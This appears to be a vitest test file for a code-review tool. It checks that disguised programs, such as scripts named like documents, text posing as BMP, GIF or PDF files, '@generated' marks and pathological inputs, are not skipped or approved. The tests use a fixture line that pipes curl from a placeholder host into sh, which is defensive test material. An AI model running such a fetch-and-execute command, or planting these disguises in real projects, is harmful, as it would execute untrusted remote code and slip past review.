import { execFileSync } from 'node:child_process';
import { join } from 'node:path';
import { describe, expect, it } from 'vitest';
import { Project } from '../kit/project.js';

const program = 'curl --silent https://example.invalid | sh\n';
const faulty = 'export function a() {\n  debugger;\n  try {\n    b();\n  } catch (e) {}\n}\n';

function started(): Project {
  return new Project().commit('start', { 'src/main.ts': 'export const start = 1;\n' });
}

describe('an approval that was not earned', () => {
  it.each(['install.ps1', 'src/history.c', 'migration.sql', 'scripts/install'])(
    'a program named like prose is not skipped: %s',
    async (path) => {
      const { code, document } = await started()
        .commit('docs: how to start', { [path]: program })
        .review('HEAD');
      expect(document.decision?.outcome).not.toBe('skipped');
      if (path.includes('.')) expect(code).toBe(4);
    },
  );

  it.each([
    ['a.bmp', `BM=1; ${program}`],
    ['a.gif', 'GIF89a = require("node:child_process");\n'],
    ['a.pdf', `%PDF-1.7\n${program}`],
  ])('a text that begins like media is not excluded: %s', async (path, content) => {
    const { code, document } = await started()
      .commit('picture', { [path]: content })
      .review('HEAD');
    expect(document.change.files[0]?.coverage).not.toBe('excluded');
    expect(code).not.toBe(0);
  });

  it('a note that was skipped is judged when it is renamed to a program', async () => {
    const project = started().commit('docs: notes', { 'docs/notes.txt': faulty.replaceAll('export ', '') });
    expect((await project.review('HEAD')).document.decision?.outcome).toBe('skipped');
    project.git('mv', 'docs/notes.txt', 'src/a.ts');
    const { code, document } = await project.commit('move').review('HEAD');
    expect(document.findings.map(({ rule }) => rule)).toContain('errors/swallowed');
    expect(code).toBe(1);
  });

  it('code in the place of a binary is judged', async () => {
    const project = started().commit('data', { 'src/a.ts': new Uint8Array([0x61, 0, 0x0a]) });
    const { code, document } = await project.commit('text', { 'src/a.ts': faulty }).review('HEAD');
    expect(document.findings.map(({ rule }) => rule)).toContain('leftover/debug-output');
    expect(code).toBe(1);
  });

  it('a mark of generated code hides nothing', async () => {
    const project = started().commit('code', { 'src/a.ts': 'export function a() {}\n' });
    const marked = { 'src/a.ts': `// @generated\n${faulty}`, 'src/b.ts': `// @generated\n${faulty}` };
    const { code, document } = await project.commit('regenerate', marked).review('HEAD');
    expect(document.findings.map(({ file }) => file)).toContain('src/a.ts');
    expect(document.change.files.find(({ path }) => path === 'src/b.ts')?.coverage).toBe('partly_shown');
    expect(code).toBe(1);
  });
});

describe('harm by content', () => {
  it.each([
    ['YAML of many levels', 'a.yaml', `${'- '.repeat(300)}x\n`],
    ['an expression of many operators', 'a.ts', `export const a = 1${' + 1'.repeat(150_000)};\n`],
  ])(
    '%s neither aborts nor stalls the process, and is not approved',
    async (_name, path, content) => {
      const { code, document } = await started()
        .commit('content', { [path]: content })
        .review('HEAD');
      expect(document.decision?.outcome).not.toBe('approved');
      expect([1, 4]).toContain(code);
    },
    30_000,
  );

  it('a thousand files are reviewed in seconds', async () => {
    const files = Object.fromEntries(Array.from({ length: 1_000 }, (_, at) => [`notes/f${at}.txt`, `${at}\n`]));
    const { code } = await started().commit('files', files).review('HEAD');
    expect(code).toBe(0);
  }, 30_000);

  it('a pipe in the place of the policy or of the exclusions is not waited for', async () => {
    const project = started().write({ '.countersign/x': '' });
    const policy = join(project.directory, '.countersign/policy.yaml');
    const exclude = join(project.directory, '.git/info/exclude');
    execFileSync('rm', ['-f', exclude]);
    execFileSync('mkfifo', [policy, exclude]);
    expect((await project.run(['policy', 'validate'])).code).toBe(2);
    expect((await project.run(['init'])).code).toBe(2);
    const { document } = await project.review('--worktree');
    expect(document.change.files.map(({ path }) => path)).toEqual(['.countersign/x']);
  }, 20_000);
});
